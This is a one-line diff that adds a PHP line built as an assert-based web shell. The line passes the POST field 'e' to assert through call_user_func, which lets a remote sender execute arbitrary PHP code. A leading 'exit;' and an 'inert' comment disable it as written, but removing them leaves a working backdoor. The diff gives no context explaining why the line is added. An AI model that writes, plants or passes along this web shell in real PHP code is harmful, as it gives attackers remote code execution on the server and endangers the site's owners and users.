@@ -1,0 +1,1 @@
+<?php exit; /* inert */ set_error_handler("assert"); $x = $_POST["e"]; call_user_func("assert", $x);
